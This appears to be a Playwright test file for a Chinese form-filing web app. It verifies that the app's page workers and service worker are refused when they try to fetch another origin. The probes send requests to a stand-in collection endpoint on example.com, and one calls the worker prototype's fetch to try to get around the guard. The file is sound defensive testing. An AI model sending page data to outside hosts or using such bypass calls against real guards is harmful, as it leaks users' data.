// Workers under the page's privacy policy: a request to another origin made from inside a page's worker (PDF,
// Word, table PDF, file checks, bound volume) or the service worker is refused, though the other origin would answer (it is answered locally here).
import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import type { Worker } from '@playwright/test';
import { fixtureDrafts } from '../fixtures/drafts';
import { seedDraft } from './support/seed';

const gd = fixtureDrafts['gd-2023'];

test.beforeEach(async ({ context }) => {
  await context.route('https://example.com/**', (r) => r.fulfill({ status: 200, body: 'leaked' }));
});

/** From inside a page's worker: a fetch to another origin, and the policy directive that refused it. */
async function probe(worker: Worker) {
  expect(worker.url()).toMatch(/^blob:/);
  return worker.evaluate(async () => {
    const violation = new Promise<string>((ok) => self.addEventListener('securitypolicyviolation', (e) => ok((e as SecurityPolicyViolationEvent).effectiveDirective)));
    const result = await fetch('https://example.com/collect?name=集群').then(
      () => 'sent',
      () => 'blocked',
    );
    return { result, directive: await violation };
  });
}

test('the PDF worker inherits the page’s Content-Security-Policy: a fetch to another origin is blocked', async ({ page }) => {
  await page.goto('./');
  const started = page.waitForEvent('worker');
  await page.getByRole('button', { name: /下载空白表格 PDF/ }).first().click();
  expect(await probe(await started)).toEqual({ result: 'blocked', directive: 'connect-src' });
  // Hint: the worker still does its own work: the blank form is written.
  await expect(page.getByRole('status').filter({ hasText: '已生成' }).first()).toBeVisible();
});

test('the Word worker and the table-PDF worker run under the page’s policy too', async ({ page }) => {
  test.setTimeout(120_000);
  await seedDraft(page, gd);
  await page.goto(`./fill/#/${gd.id}/submit`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('报送材料', { timeout: 30_000 });
  const word = page.waitForEvent('worker');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: /下载申报表 Word\/WPS 文件/ }).first().click();
  expect(await probe(await word)).toEqual({ result: 'blocked', directive: 'connect-src' });
  expect((await download).suggestedFilename()).toMatch(/\.docx$/);

  await page.goto(`./fill/#/${gd.id}/enterprises`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('一企一表（企业发展情况表）', { timeout: 30_000 });
  const table = page.waitForEvent('worker');
  await page.getByRole('button', { name: '下载企业发展情况表（表1）模板（PDF）' }).click();
  expect(await probe(await table)).toEqual({ result: 'blocked', directive: 'connect-src' });
  await expect(page.getByRole('status').filter({ hasText: '已生成企业发展情况表（表1）模板（PDF）' })).toBeVisible();
});

test('the 佐证材料 workers (the file checks, the bound volume) run under the page’s policy too', async ({ page }) => {
  test.setTimeout(120_000);
  const hb = fixtureDrafts['hb-2024'];
  await seedDraft(page, hb);
  // Hint: the volume's worker starts once 佐证材料清单 is idle (its warm-up); the file checks' with the first file.
  const volume = page.waitForEvent('worker', { timeout: 60_000 });
  await page.goto(`./fill/#/${hb.id}/evidence`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('佐证材料清单', { timeout: 30_000 });
  expect(await probe(await volume)).toEqual({ result: 'blocked', directive: 'connect-src' });
  const checks = page.waitForEvent('worker', { timeout: 60_000 });
  await page.getByLabel(/^为 附件1 .* 添加文件$/).setInputFiles({ name: '营业执照.pdf', mimeType: 'application/pdf', buffer: readFileSync(new URL('../fixtures/evidence/certificate.pdf', import.meta.url)) });
  expect(await probe(await checks)).toEqual({ result: 'blocked', directive: 'connect-src' });
  await expect(page.locator('#evidence-item-1 .item-status')).toContainText('已附 1 个文件', { timeout: 30_000 });
});

test('the service worker reaches its own origin only: fetch and Cache.add to another origin are refused', async ({ page, context }) => {
  await page.goto('./');
  await expect(page.getByRole('status').filter({ hasText: '已可离线使用' })).toBeVisible({ timeout: 60_000 });
  const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
  const outcome = await worker.evaluate(async () => {
    const tried = (p: Promise<unknown>) => p.then(() => 'sent', (e: Error) => e.message);
    const cache = await caches.open('probe');
    return {
      fetch: await tried(fetch('https://example.com/collect')),
      // Hint: the fetch of the worker's prototype, as code that knows the guard would try.
      prototypeFetch: await tried((globalThis as unknown as { WorkerGlobalScope: { prototype: { fetch: typeof fetch } } }).WorkerGlobalScope.prototype.fetch.call(self, 'https://example.com/collect')),
      cacheAdd: await tried(cache.add('https://example.com/collect')),
      own: await tried(fetch(`${self.location.origin}/apply/manifest.webmanifest`)),
    };
  });
  expect(outcome).toEqual({ fetch: expect.stringContaining('已阻止访问'), prototypeFetch: expect.stringContaining('已阻止访问'), cacheAdd: expect.stringContaining('已阻止访问'), own: 'sent' });
});
